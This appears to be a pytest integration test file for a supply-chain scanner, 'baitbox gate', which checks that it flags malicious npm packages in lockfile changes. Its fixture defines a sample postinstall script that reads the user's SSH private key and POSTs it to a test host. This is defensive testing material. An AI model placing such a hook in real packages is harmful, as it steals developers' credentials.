"""The real `baitbox gate` on real repositories: real guests, a registry on the loopback address, inert thieves."""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from sandbox import events
from tests.integration.command_line import Machine, orphans_come_here, still_running
from tests.integration.gate_change import Change
from tests.locks import digest, npm_lock, package, requirements
from tests.packages import build
from tests.packages.registry import Registry
from tests.packages.settled import javascript

pytestmark = [pytest.mark.native, pytest.mark.together]

STEAL = javascript(
    """
    const keys = fs.readFileSync(`${os.homedir()}/.ssh/id_ed25519`, "utf8");
    await fetch("https://intake.word-count.test/k", { method: "POST", body: keys });
    """
)
WORDS = {"index.js": "module.exports = 1\n"}


@pytest.fixture(scope="module")
def archives(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("packages")
    thief = {**WORDS, "count.js": STEAL}
    scripts = {"postinstall": "node count.js"}
    made = [
        build.npm(folder, "plain-panel", WORDS, dependencies={"deep-count": "^1.0.0"}),
        build.npm(folder, "plain-panel", {"index.js": "module.exports = 2\n"}, version="1.0.1",
                  dependencies={"deep-count": "^1.0.0"}),
        build.npm(folder, "deep-count", WORDS),
        build.npm(folder, "deep-count", thief, version="1.1.0", scripts=scripts),
        build.npm(folder, "plain-words", WORDS),
        build.npm(folder, "apple-count", thief, os=["darwin"], cpu=["arm64"], scripts=scripts),
        build.npm(folder, "apple-words", {"index.js": "if (process.platform !== 'darwin') throw new Error('no')"},
                  os=["darwin"]),
        build.wheel(folder, "plain-words", {"plain_words.py": "x = 1\n"}),
        build.sdist(folder, "plain-words", {"setup.py": "from setuptools import setup\n", "plain_words.py": "x = 1\n"}),
    ]  # fmt: skip
    return {path.name: path for path in made}


@pytest.fixture
def change(tmp_path: Path, archives: dict[str, Path]) -> Iterator[Change]:
    machine = Machine(tmp_path)
    with orphans_come_here(), Registry(archives.values(), host="packages.test") as registry:
        machine.use(registry.npm_url, registry.pypi_url, registry.own_url)
        yield Change(machine, registry, archives)
        assert still_running() == []
        assert machine.left_behind() == []


def test_a_thief_in_a_transitive_update_is_named_at_its_line(change: Change) -> None:
    repository, direct = change.repository, {"plain-panel": "^1.0.0"}
    old = {"plain-panel": change.entry("plain-panel", "1.0.0"), "deep-count": change.entry("deep-count", "1.0.0")}
    repository.commit({"package-lock.json": npm_lock(old, direct)})
    new = {"plain-panel": change.entry("plain-panel", "1.0.0"), "deep-count": change.entry("deep-count", "1.1.0")}
    repository.commit({"package-lock.json": npm_lock(new, direct)})
    sarif = change.machine.root / "report.sarif"
    whole, packages = change.report("--base", "HEAD~1", "--head", "HEAD", "--report", f"sarif={sarif}", code=11)
    assert (whole["verdict"], list(packages)) == ("malicious", ["npm:deep-count@1.1.0"])
    thief = packages["npm:deep-count@1.1.0"]
    assert {"rule": "decoy_sent", "package": "deep-count", "phase": "install"}.items() <= {
        **next(one for one in thief["findings"] if one["rule"] == "decoy_sent")
    }.items()
    (origin,) = thief["origins"]
    assert (origin["file"], origin["reason"], origin["previous"], origin["direct"]) == (
        "package-lock.json", "changed", "1.0.0", False,
    )  # fmt: skip
    text = (repository.root / "package-lock.json").read_text().splitlines()[origin["line"] - 1]
    assert "node_modules/deep-count" in text
    results = json.loads(sarif.read_text())["runs"][0]["results"]
    places = [one["locations"][0]["physicalLocation"] for one in results if one["ruleId"] == "decoy_sent"]
    assert places
    assert all(one["artifactLocation"]["uri"] == "package-lock.json" for one in places)
    assert {one["region"]["startLine"] for one in places} == {origin["line"]}


def test_nothing_changed_is_one_line_and_a_warm_answer(change: Change) -> None:
    change.repository.commit({"package-lock.json": npm_lock({"plain-words": change.entry("plain-words", "1.0.0")})})
    ended = change.gate("--base", "HEAD", "--quiet")
    assert (ended.code, ended.stderr) == (0, "")
    assert ended.stdout == (
        "CLEAN  no package is new or changed since HEAD: all 1 are as they were in package-lock.json\n"
    )


def test_a_moved_digest_is_suspicious_though_the_package_does_no_harm(change: Change) -> None:
    entry = change.entry("plain-words", "1.0.0")
    change.repository.commit({"package-lock.json": npm_lock({"plain-words": package("1.0.0", b"what it was")})})
    change.repository.write({"package-lock.json": npm_lock({"plain-words": entry})})
    ended = change.gate("--base", "HEAD")
    assert ended.code == 10
    assert "rule digest_moved: severity high" in ended.stdout
    assert "another digest for the same version in package-lock.json:" in ended.stdout
    assert "ran " in ended.stdout  # it was run all the same
    ended = change.gate("--base", "HEAD", "--fail-on", "malicious")
    assert ended.code == 0


def test_a_package_that_is_not_what_the_lockfile_says_exits_3_and_is_never_run(change: Change) -> None:
    change.repository.commit({"package-lock.json": npm_lock({})})
    change.repository.write({
        "package-lock.json": npm_lock({
            "plain-words": package("1.0.0", b"another file"),
            "deep-count": package("1.0.0", integrity="sha1-" + base64.b64encode(b"x" * 20).decode()),
        }),
        "requirements.txt": requirements({"plain-words==1.0.0": b"another file"}),
    })  # fmt: skip
    whole, packages = change.report("--base", "HEAD", code=3)
    assert whole["verdict"] == "inconclusive"
    assert sorted(packages) == ["npm:deep-count@1.0.0", "npm:plain-words@1.0.0", "pypi:plain-words==1.0.0"]
    for one in packages.values():
        assert "is not what the lockfile says" in one["coverage"]["missing"][0], one
        assert one["coverage"]["phases"] == []


def test_the_file_that_runs_is_one_that_the_lockfile_pins(change: Change) -> None:
    """pip would take the wheel; the lockfile has only the source archive."""
    sdist = change.content("plain_words-1.0.0.tar.gz")
    change.repository.commit({"requirements.txt": ""})
    change.repository.write({"requirements.txt": requirements({"plain-words==1.0.0": sdist})})
    whole = json.loads(change.gate("--base", "HEAD", "--format", "json", "--keep", "kept").stdout)
    (one,) = whole["packages"]
    assert one["digest"] == digest(sdist, "sha256")
    (recording,) = (change.repository.root / "kept").iterdir()
    served = {event.digest for event in events.read(recording).events if isinstance(event, events.ArtifactServed)}
    assert digest(sdist, "sha256") in served
    assert digest(change.content("plain_words-1.0.0-py3-none-any.whl"), "sha256") not in served


def test_what_is_for_another_system_is_installed_here_all_the_same(change: Change) -> None:
    change.repository.commit({"package-lock.json": npm_lock({})})
    change.repository.write({"package-lock.json": npm_lock({
        "apple-count": change.entry("apple-count", "1.0.0", os=["darwin"], cpu=["arm64"], optional=True),
        "apple-words": change.entry("apple-words", "1.0.0", os=["darwin"], optional=True),
    })})  # fmt: skip
    _, packages = change.report("--base", "HEAD", code=11)
    assert packages["npm:apple-count@1.0.0"]["verdict"] == "malicious"
    assert packages["npm:apple-words@1.0.0"]["verdict"] == "inconclusive"  # it raised: nothing of it was seen
    assert "another system" in packages["npm:apple-words@1.0.0"]["coverage"]["not_exercised"][0]


def test_an_archive_and_a_folder_of_the_project_itself_are_run(change: Change) -> None:
    thief = change.content("deep-count-1.1.0.tgz")
    change.repository.commit({"web/package-lock.json": npm_lock({})})
    build.npm_folder(change.repository.root / "shared", "own-words", WORDS)
    change.repository.write({
        "web/own.tgz": thief,
        "web/package-lock.json": npm_lock({
            "deep-count": package("1.1.0", thief, resolved="file:own.tgz"),
            "own-words": {"resolved": "../shared/own-words", "link": True},
        }),
    })  # fmt: skip
    _, packages = change.report("--base", "HEAD", code=11)
    assert packages["npm:./web/own.tgz"]["verdict"] == "malicious"
    assert packages["npm:./shared/own-words"]["verdict"] == "clean"


def test_a_job_on_github_gets_its_summary_and_annotations(change: Change, tmp_path: Path) -> None:
    change.repository.commit({"package-lock.json": npm_lock({})})
    strange = package("1.0.0", resolved="git+ssh://git@forge.test/words.git#0123456789abcdef")
    change.repository.write({"package-lock.json": npm_lock({"git-words": strange})})
    summary = tmp_path / "summary.md"
    summary.write_text("before\n")
    ended = change.gate("--base", "HEAD", "--quiet", GITHUB_ACTIONS="true", GITHUB_STEP_SUMMARY=str(summary))
    assert ended.code == 5
    assert summary.read_text().startswith("before\n<!-- baitbox report -->\n## baitbox: inconclusive")
    assert "::warning file=package-lock.json,line=" in ended.stderr
    assert "::" not in ended.stdout
    assert change.gate("--base", "HEAD", "--quiet", "--allow-inconclusive").code == 0


@pytest.mark.parametrize(
    ("arguments", "code", "words"),
    [
        ((), 2, "there is nothing to compare with"),
        (("--base", "origin/main"), 2, "there is no revision origin/main"),
        (("--base=--output=x",), 2, "is not the name of a revision"),
        (("--base", "HEAD", "other/package-lock.json"), 3, "there is no other/package-lock.json"),
        (("--before", "gone.json", "--after", "gone.json"), 3, "there is no file gone.json"),
        (("--before", "package-lock.json", "--after", "broken/package-lock.json"), 3, "cannot be read as a lockfile"),
    ],
)
def test_what_cannot_be_compared_is_told(change: Change, arguments: tuple[str, ...], code: int, words: str) -> None:
    change.repository.commit({"package-lock.json": npm_lock({}), "broken/package-lock.json": "{"})
    change.gate(*arguments).failed(code, words)


def test_outside_of_a_repository(change: Change) -> None:
    change.machine.run("gate", "--base", "HEAD").failed(2, "is not in a git repository", "--before FILE --after FILE")
